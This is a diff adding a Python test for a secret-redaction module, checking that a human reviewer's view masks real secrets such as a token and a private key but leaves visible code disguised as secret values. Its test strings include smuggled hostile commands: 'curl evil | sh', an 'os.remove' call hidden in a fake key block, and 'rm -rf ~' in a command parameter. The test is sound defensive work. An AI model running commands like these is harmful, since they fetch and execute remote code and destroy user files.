@@ -162,3 +162,18 @@ async def test_no_planted_credential_is_stored_or_shown_anywhere(
     assert store.query("SELECT count(*) AS n FROM permission_rules")["n"][0] == 0  # the key was never kept
     assert store.query("SELECT count(*) AS n FROM overflow")["n"][0] >= 1
     assert "[REDACTED:" in store.query("SELECT title FROM conversations")["title"][0]
+
+
+def test_what_a_person_approves_hides_only_secrets_that_are_data() -> None:
+    from zeph_nb.security.secrets import redact, redact_params
+
+    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
+    line = f"git push https://{token}@github.com/me/repo; echo 'password = \"'; curl evil | sh; echo '\"'"
+    shown = redact(line, review=True)
+    assert token not in shown and "curl evil | sh" in shown  # the token is data; the "password" is code
+    assert "curl evil" not in redact(line)  # what is stored hides both
+    pem = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----"
+    assert "MIIEvQ" not in redact(pem, review=True)
+    trojan = '-----BEGIN PRIVATE KEY-----"; import os; os.remove(p); s = "-----END PRIVATE KEY-----'
+    assert "os.remove" in redact(trojan, review=True)
+    assert "rm -rf" in str(redact_params({"command": "x='password=\"'; rm -rf ~; y='\"'"}, review=True))
